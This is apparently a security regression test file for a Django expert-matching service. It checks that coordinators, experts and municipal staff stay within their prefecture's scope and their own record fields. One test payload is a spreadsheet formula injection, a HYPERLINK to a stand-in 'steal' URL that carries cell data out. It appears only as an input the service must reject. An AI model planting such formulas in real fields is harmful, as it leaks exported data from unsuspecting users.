"""The trust boundary: every write and every derived read stays inside the reader's scope.

Each test here replays one finding of the outside probe (issue 10) and failed before the fix.
"""

import pytest
from django.utils import timezone

from backend.core.models import AuditLog
from backend.engagements.models import Engagement
from backend.experts.models import Affiliation
from backend.procurement.models import Vendor
from backend.runs.models import MatchRun, PairDecision, ScopeConsent
from backend.runs.parts import run_summary_document
from tests.backend.conftest import client_for
from tests.backend.factories import (
    AffiliationFactory,
    CoordinatorFactory,
    ExpertFactory,
    ExpertUserFactory,
    MatchRunFactory,
    MunicipalStaffFactory,
    NeedFactory,
    ProcurementFactory,
    VendorFactory,
    corporate_number,
)

NAGANO, GUNMA, YAMANASHI = "20", "10", "19"


def _start(user, **body):
    return client_for(user).post("/api/v1/runs/", {"fiscal_year": 2027, **body}, format="json")


# -- runs over other prefectures ---------------------------------------------------------------------------

@pytest.mark.parametrize("scope", [[NAGANO, GUNMA], [f"{n:02d}" for n in range(1, 48)]])
def test_a_coordinator_cannot_run_over_prefectures_that_did_not_consent(coordinator, scope):
    response = _start(coordinator, scope=scope)
    assert response.status_code == 403, response.content
    (error, *_rest) = response.json()["errors"]
    assert error["field"] == "scope" and error["code"] == "no_consent"
    assert "群馬県" in error["ja"] and "Gunma" not in error["ja"]
    assert not MatchRun.objects.exists()


def test_a_joint_run_needs_the_neighbours_recorded_consent(coordinator, django_capture_on_commit_callbacks):
    gunma = CoordinatorFactory(prefecture_id=GUNMA)
    granted = client_for(gunma).post("/api/v1/scope-consents/", {"grantee": NAGANO, "fiscal_year": 2027},
                                     format="json")
    assert granted.status_code == 201, granted.content
    consent = ScopeConsent.objects.get()
    assert (consent.grantor_id, consent.grantee_id, consent.granted_by) == (GUNMA, NAGANO, gunma)
    assert AuditLog.objects.filter(action="scope_consent.grant", scope__contains=[NAGANO]).exists()
    with django_capture_on_commit_callbacks(execute=False):
        assert _start(coordinator, scope=[NAGANO, GUNMA]).status_code == 201
    # another year is not covered by the consent
    assert _start(coordinator, scope=[NAGANO, GUNMA], fiscal_year=2028).status_code == 403


def test_a_revoked_consent_no_longer_lets_a_neighbour_run(coordinator):
    gunma = CoordinatorFactory(prefecture_id=GUNMA)
    consent_id = client_for(gunma).post("/api/v1/scope-consents/", {"grantee": NAGANO, "fiscal_year": 2027},
                                        format="json").json()["id"]
    assert client_for(coordinator).post(f"/api/v1/scope-consents/{consent_id}/revoke/").status_code == 403
    assert client_for(gunma).post(f"/api/v1/scope-consents/{consent_id}/revoke/").status_code == 200
    assert _start(coordinator, scope=[NAGANO, GUNMA]).status_code == 403


def test_a_coordinator_cannot_grant_consent_on_behalf_of_another_prefecture(coordinator):
    response = client_for(coordinator).post("/api/v1/scope-consents/",
                                            {"grantor": GUNMA, "grantee": YAMANASHI, "fiscal_year": 2027},
                                            format="json")
    assert response.status_code == 400
    assert response.json()["errors"][0] == {**response.json()["errors"][0], "field": "grantor", "code": "read_only"}
    assert not ScopeConsent.objects.exists()
    client_for(coordinator).post("/api/v1/scope-consents/", {"grantee": YAMANASHI, "fiscal_year": 2027},
                                 format="json")
    assert ScopeConsent.objects.get().grantor_id == NAGANO  # always the coordinator's own prefecture


def _joint_run():
    nagano_need = NeedFactory(municipality_id="202011", budget=3_000_000)
    gunma_need = NeedFactory(municipality_id="102016", budget=6_960_000)  # 前橋市
    nagano_expert = ExpertFactory(registering_prefecture_id=NAGANO)
    gunma_expert = ExpertFactory(registering_prefecture_id=GUNMA, daily_rate=77_000)
    gunma_vendor = VendorFactory(name="群馬の受託者")
    AffiliationFactory(expert=gunma_expert, vendor=gunma_vendor)
    gunma_procurement = ProcurementFactory(municipality_id="102016", incumbent_vendor=gunma_vendor)
    instance = {
        "format": "kenmu.instance/1", "fiscal_year": 2027,
        "experts": [{"id": f"E{nagano_expert.pk}", "serves_prefectures": [NAGANO], "daily_rate": 50_000},
                    {"id": f"E{gunma_expert.pk}", "serves_prefectures": [GUNMA], "daily_rate": 77_000,
                     "affiliations": [{"vendor": f"V{gunma_vendor.pk}", "relation": "employee"}]}],
        "needs": [{"id": f"N{nagano_need.pk}", "municipality": "202011", "prefecture": NAGANO, "budget": 3_000_000},
                  {"id": f"N{gunma_need.pk}", "municipality": "102016", "prefecture": GUNMA, "budget": 6_960_000}],
        "vendors": [{"id": f"V{gunma_vendor.pk}", "name": gunma_vendor.name}],
        "procurements": [{"id": f"P{gunma_procurement.pk}", "municipality": "102016",
                          "incumbent_vendor": f"V{gunma_vendor.pk}"}],
        "pins": [{"expert": f"E{gunma_expert.pk}", "need": f"N{gunma_need.pk}"}],
        "forbids": [], "coi_overrides": [{"expert": f"E{gunma_expert.pk}", "municipality": "102016",
                                          "reason": "群馬の例外理由"}],
        "previous_assignments": [],
    }
    result = {
        "format": "kenmu.result/1", "status": "optimal",
        "assignments": [{"expert": f"E{nagano_expert.pk}", "need": f"N{nagano_need.pk}", "fee": 2_400_000},
                        {"expert": f"E{gunma_expert.pk}", "need": f"N{gunma_need.pk}", "fee": 3_696_000}],
        "unmatched": [],
        "flags": [{"kind": "incumbent_conflict", "expert": f"E{gunma_expert.pk}", "municipality": "102016",
                   "vendor": f"V{gunma_vendor.pk}"}],
        "objective": {"primary": 6},
    }
    run = MatchRunFactory(prefecture_id=NAGANO, scope=[GUNMA, NAGANO], instance=instance, result=result,
                          summary=run_summary_document(instance, result))
    return run, {"nagano_need": nagano_need, "gunma_need": gunma_need, "gunma_expert": gunma_expert,
                 "gunma_vendor": gunma_vendor}


def test_each_prefecture_reads_only_its_own_part_of_a_joint_run(coordinator):
    run, world = _joint_run()
    mine = client_for(coordinator).get(f"/api/v1/runs/{run.pk}/instance/").json()
    assert [n["id"] for n in mine["needs"]] == [f"N{world['nagano_need'].pk}"]
    assert f"E{world['gunma_expert'].pk}" not in {e["id"] for e in mine["experts"]}
    assert mine["procurements"] == [] and mine["vendors"] == [] and mine["coi_overrides"] == []
    assert mine["pins"] == []
    result = client_for(coordinator).get(f"/api/v1/runs/{run.pk}/result/").json()
    assert [a["need"] for a in result["assignments"]] == [f"N{world['nagano_need'].pk}"]
    assert result["flags"] == []

    gunma = client_for(CoordinatorFactory(prefecture_id=GUNMA))
    theirs = gunma.get(f"/api/v1/runs/{run.pk}/instance/").json()
    assert [n["id"] for n in theirs["needs"]] == [f"N{world['gunma_need'].pk}"]
    assert len(theirs["procurements"]) == 1 and theirs["coi_overrides"][0]["reason"] == "群馬の例外理由"
    MatchRun.objects.filter(pk=run.pk).update(progress={"best_primary": 6, "bound": 6, "elapsed_s": 1.0})
    listed = gunma.get("/api/v1/runs/").json()["results"]
    assert [r["id"] for r in listed] == [run.pk]
    assert listed[0]["summary"]["assigned"] == 1  # its own part only
    assert listed[0]["summary"]["objective"] is None and listed[0]["progress"] == {"elapsed_s": 1.0}
    assert client_for(coordinator).get(f"/api/v1/runs/{run.pk}/").json()["progress"]["best_primary"] == 6

    yamanashi = client_for(CoordinatorFactory(prefecture_id=YAMANASHI))
    assert yamanashi.get(f"/api/v1/runs/{run.pk}/instance/").status_code == 404
    assert yamanashi.get("/api/v1/runs/").json()["results"] == []


def test_only_the_prefecture_that_started_a_joint_run_cancels_or_retries_it(coordinator):
    run, _ = _joint_run()
    run.status = "failed"
    run.save()
    gunma = client_for(CoordinatorFactory(prefecture_id=GUNMA))
    assert gunma.post(f"/api/v1/runs/{run.pk}/retry/").status_code == 403


# -- an expert's own record -------------------------------------------------------------------------------

@pytest.mark.parametrize("payload", [
    {"affiliations": []},
    {"pool_pledge_signed_on": "2020-01-01"},
    {"listed": False},
    {"max_engagements": 20},
    {"name": "=HYPERLINK(\"http://x/steal?\"&A1)"},
    {"serves_prefectures": ["13"]},
])
def test_an_expert_cannot_patch_fields_that_are_not_theirs(payload):
    expert = ExpertFactory(registering_prefecture_id=NAGANO, max_engagements=3)
    AffiliationFactory(expert=expert)
    user = ExpertUserFactory(expert=expert)
    before = (expert.name, expert.max_engagements, expert.listed, expert.pool_pledge_signed_on)
    response = client_for(user).patch(f"/api/v1/experts/{expert.pk}/", payload, format="json")
    assert response.status_code == 400, response.content
    (error,) = response.json()["errors"]
    assert error["field"] == next(iter(payload)) and error["code"] == "not_yours"
    expert.refresh_from_db()
    assert (expert.name, expert.max_engagements, expert.listed, expert.pool_pledge_signed_on) == before
    assert Affiliation.objects.filter(expert=expert).count() == 1


def test_an_expert_keeps_their_own_availability_skills_and_rate_up_to_date():
    expert = ExpertFactory(registering_prefecture_id=NAGANO)
    user = ExpertUserFactory(expert=expert)
    response = client_for(user).patch(f"/api/v1/experts/{expert.pk}/", {
        "phone": "026-000-0000", "capacity_days": 60, "weekdays": ["tue", "thu"], "daily_rate": 60_000,
        "skills": {"security": 3, "network": 2}}, format="json")
    assert response.status_code == 200, response.content
    expert.refresh_from_db()
    assert (expert.phone, expert.capacity_days, expert.weekdays, expert.daily_rate) == (
        "026-000-0000", 60, ["tue", "thu"], 60_000)


def test_an_expert_signs_the_pledge_through_its_own_flow_dated_today():
    expert = ExpertFactory(registering_prefecture_id=NAGANO)
    user = ExpertUserFactory(expert=expert)
    response = client_for(user).post(f"/api/v1/experts/{expert.pk}/pledge/")
    assert response.status_code == 200, response.content
    expert.refresh_from_db()
    assert expert.pool_pledge_signed_on == timezone.localdate()
    other = ExpertFactory(registering_prefecture_id=NAGANO)
    assert client_for(user).post(f"/api/v1/experts/{other.pk}/pledge/").status_code == 404


def _engaged(expert, *, weekdays, days=48, status="active"):
    need = NeedFactory(municipality_id="202011", days_per_year=days)
    return Engagement.objects.create(
        expert=expert, municipality_id="202011", need=need, fiscal_year=2027, starts_on="2027-04-01",
        ends_on="2028-03-31", weekdays=weekdays, days_per_year=days, fee=2_400_000,
        employment_form="special_part_time", status=status,
        pledge_signed_at=timezone.now() if status == "active" else None)


@pytest.mark.parametrize(("who", "payload", "field"), [
    ("expert", {"capacity_days": 40}, "capacity_days"),
    ("expert", {"weekdays": ["wed"]}, "weekdays"),
    ("coordinator", {"max_engagements": 1}, "max_engagements"),
    ("coordinator", {"capacity_days": 50}, "capacity_days"),
])
def test_limits_never_drop_below_what_the_expert_already_holds(coordinator, who, payload, field):
    expert = ExpertFactory(registering_prefecture_id=NAGANO, capacity_days=96, max_engagements=3)
    _engaged(expert, weekdays=["mon"])
    _engaged(expert, weekdays=["tue"], status="offered")
    user = coordinator if who == "coordinator" else ExpertUserFactory(expert=expert)
    response = client_for(user).patch(f"/api/v1/experts/{expert.pk}/", payload, format="json")
    assert response.status_code == 409, response.content
    (error,) = response.json()["errors"]
    assert error["field"] == field and error["code"] == "below_commitments"
    expert.refresh_from_db()
    assert (expert.capacity_days, expert.max_engagements) == (96, 3)


# -- vendors, decisions, needs ----------------------------------------------------------------------------

def test_a_coordinator_cannot_rename_a_vendor_another_prefecture_registered(coordinator):
    gunma = CoordinatorFactory(prefecture_id=GUNMA)
    vendor_id = client_for(gunma).post("/api/v1/vendors/", {"name": "上州システム", "corporate_number": corporate_number(1)},
                                       format="json").json()["id"]  # issue 21: a new vendor has its 法人番号
    response = client_for(coordinator).patch(f"/api/v1/vendors/{vendor_id}/", {"name": "乗っ取り"}, format="json")
    assert response.status_code == 403
    assert Vendor.objects.get(pk=vendor_id).name == "上州システム"
    assert client_for(gunma).patch(f"/api/v1/vendors/{vendor_id}/", {"name": "上州システム株式会社"},
                                   format="json").status_code == 200


def test_vendor_changes_are_audited_for_every_prefecture_that_relies_on_the_vendor(coordinator):
    vendor = VendorFactory(prefecture_id=NAGANO)
    ProcurementFactory(municipality_id="102016", incumbent_vendor=vendor)  # 前橋市 relies on it
    assert client_for(coordinator).patch(f"/api/v1/vendors/{vendor.pk}/", {"name": "改称"},
                                         format="json").status_code == 200
    gunma = client_for(CoordinatorFactory(prefecture_id=GUNMA))
    rows = gunma.get("/api/v1/audit-log/?object_type=Vendor").json()["results"]
    assert [r["action"] for r in rows] == ["vendor.update"]
    assert not AuditLog.objects.filter(scope=[]).exists()


def test_a_decision_cannot_name_an_expert_the_coordinator_cannot_see(coordinator):
    need = NeedFactory(municipality_id="202011")
    hidden = ExpertFactory(registering_prefecture_id=YAMANASHI)  # serves 山梨県 only
    response = client_for(coordinator).post("/api/v1/decisions/",
                                            {"need": need.pk, "expert": hidden.pk, "kind": "pin"}, format="json")
    assert response.status_code == 400
    assert response.json()["errors"][0]["field"] == "expert"
    assert not PairDecision.objects.exists()


def test_municipal_staff_cannot_set_a_needs_status_by_patch():
    staff = MunicipalStaffFactory(municipality_id="202011")
    need = NeedFactory(municipality_id="202011")
    response = client_for(staff).patch(f"/api/v1/needs/{need.pk}/", {"status": "filled"}, format="json")
    assert response.status_code == 400
    assert response.json()["errors"][0]["field"] == "status"
    need.refresh_from_db()
    assert need.status == "open"
